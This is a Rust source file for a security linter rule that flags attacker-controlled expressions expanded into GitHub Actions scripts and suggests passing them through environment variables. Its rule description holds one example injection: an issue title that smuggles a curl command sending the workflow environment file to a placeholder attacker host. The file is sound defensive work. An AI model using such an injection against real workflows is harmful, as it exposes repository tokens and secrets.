//! `workflows/template-injection`: attacker-controlled `${{ }}` expressions pasted into
//! `run:` scripts or `actions/github-script` code.

use super::{StepsCtx, code_sinks, taint};
use crate::expr;
use trustward_core::{Confidence, Finding, Level, Practice, Rule, Severity};

/// The rule.
pub static RULE: Rule = Rule {
    id: "workflows/template-injection",
    title: "Attacker-controlled expression expanded into a script",
    severity: Severity::High,
    confidence: Confidence::High,
    practice: Practice::TechnicalSecurityGuidance,
    level: Level::Basic,
    controls: &["OSPS-BR-01.01"],
    description: "A `${{ … }}` expression inside `run:` (or the `script:` of `actions/github-script`) reads data that whoever opens an issue, pull request, comment, review or discussion, or names a branch or writes a commit message, controls: titles, bodies, head refs, commit messages and authors, page names, and env variables, step outputs or job outputs set from them. Caller- and dispatcher-supplied `inputs.*` are reported at low severity, branch and tag names (`github.ref_name`, `github.ref`, `github.base_ref`) at medium, and any other context whose content is not known to be safe (step outputs, `matrix`, `env`, `needs`) at info: it is better passed through `env:` too. Known-safe values (`github.sha`, run ids and numbers, pull request and issue numbers, `runner.*`, step outcomes) are never reported.",
    why: "GitHub substitutes `${{ }}` into the script text before the shell runs it, so the value becomes code. An issue titled `a\"; curl -d @$GITHUB_ENV evil.example; #` runs that command with the workflow's token and secrets (GitHub Security Lab, \"Keeping your GitHub Actions and workflows secure Part 2: Untrusted input\").",
    fix: "Pass the value through an environment variable and quote it in the shell (`env: TITLE: ${{ github.event.issue.title }}` then `run: echo \"$TITLE\"`).",
    fix_details: "Bad:\n\n```yaml\n- run: echo \"${{ github.event.issue.title }}\"\n```\n\nGood:\n\n```yaml\n- env:\n    TITLE: ${{ github.event.issue.title }}\n  run: echo \"$TITLE\"\n```\n\nIn `actions/github-script`, read `context.payload.issue.title` in JavaScript instead of expanding it. Numeric ids such as `github.event.pull_request.number` and commit SHAs are not attacker-controlled text and are not reported.",
    references: &[
        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
        "https://securitylab.github.com/resources/github-actions-untrusted-input/",
    ],
};

/// Checks every code sink of the steps.
pub fn check(ctx: &StepsCtx<'_, '_>, out: &mut Vec<Finding>) {
    // tainted step ids seen so far (a step can only read outputs of earlier steps)
    let mut earlier: Vec<String> = Vec::new();
    for step in ctx.steps {
        let mut env = ctx.tainted_env.clone();
        env.extend(taint::tainted_env(ctx.file.src, step.env));
        for sink in code_sinks(step) {
            for e in expr::exprs_in(ctx.file.src, sink) {
                let paths = expr::context_paths(&e.inner);
                let (severity, confidence, what) = if let Some(p) =
                    paths.iter().find(|p| expr::attacker_controlled(p))
                {
                    (Severity::High, Confidence::High, p.clone())
                } else if let Some(p) = taint::derived(&e.inner, &env, &earlier, &ctx.tainted_needs)
                {
                    (Severity::High, Confidence::Medium, p)
                } else if let Some(p) = paths.iter().find(|p| expr::caller_controlled(p)) {
                    (Severity::Low, Confidence::Low, p.clone())
                } else if let Some(p) = paths.iter().find(|p| expr::ref_name(p)) {
                    (Severity::Medium, Confidence::Medium, p.clone())
                } else if let Some(p) = paths
                    .iter()
                    .find(|p| !expr::known_safe(p) && !static_value(ctx, step, p))
                {
                    (Severity::Info, Confidence::Low, p.clone())
                } else {
                    continue;
                };
                let var = env_name(&what);
                let snippet = format!("env:\n  {var}: ${{{{ {} }}}}\nrun: … \"${var}\" …", e.inner);
                out.push(
                    Finding::new(
                        &RULE,
                        format!(
                            "`${{{{ {} }}}}` in {} expands `{what}`, which an outsider can set, into code",
                            e.inner,
                            ctx.owner()
                        ),
                        ctx.file.loc(e.span),
                    )
                    .with_severity(severity)
                    .with_confidence(confidence)
                    .with_key(format!("{}/{}", ctx.key_prefix(step), e.inner))
                    .with_data("context", what.clone())
                    .with_remediation(format!(
                        "Move the expression into an environment variable and quote it:\n\n{snippet}"
                    )),
                );
            }
        }
        if let Some(id) = step.id
            && ctx.tainted_steps.iter().any(|t| t == id)
        {
            earlier.push(id.to_string());
        }
    }
}

/// Whether `path` is a `matrix.*` of a matrix written out literally, or an `env.*`
/// set to a literal in the step, job or workflow: values the repository itself fixes.
fn static_value(ctx: &StepsCtx<'_, '_>, step: &crate::model::Step<'_>, path: &str) -> bool {
    let src = ctx.file.src;
    let literal = |n: &crate::yaml::Node| {
        src.get(n.span.start.offset..n.span.end.offset)
            .is_some_and(|raw| !raw.contains("${{"))
    };
    if path.starts_with("matrix.") || path == "matrix" {
        return ctx
            .job
            .and_then(|j| j.node.get("strategy"))
            .and_then(|s| s.get("matrix"))
            .is_some_and(literal);
    }
    if let Some(name) = path.strip_prefix("env.") {
        let envs = [
            step.env,
            ctx.job.and_then(|j| j.env),
            ctx.workflow.and_then(|w| w.env),
        ];
        for env in envs.into_iter().flatten() {
            if let Some((_, v)) = env.as_map().and_then(|m| {
                m.iter()
                    .find(|(k, _)| k.as_str().is_some_and(|k| k.eq_ignore_ascii_case(name)))
            }) {
                return literal(v);
            }
        }
    }
    false
}

/// An env variable name for a context path: `github.event.issue.title` → `ISSUE_TITLE`.
fn env_name(path: &str) -> String {
    let segs: Vec<&str> = path.split('.').filter(|s| *s != "*").collect();
    let tail = if segs.len() >= 2 {
        &segs[segs.len() - 2..]
    } else {
        &segs[..]
    };
    let mut n: String = tail
        .join("_")
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() {
                c.to_ascii_uppercase()
            } else {
                '_'
            }
        })
        .collect();
    if n.is_empty() || n.starts_with(|c: char| c.is_ascii_digit()) {
        n.insert_str(0, "VALUE_");
    }
    n
}
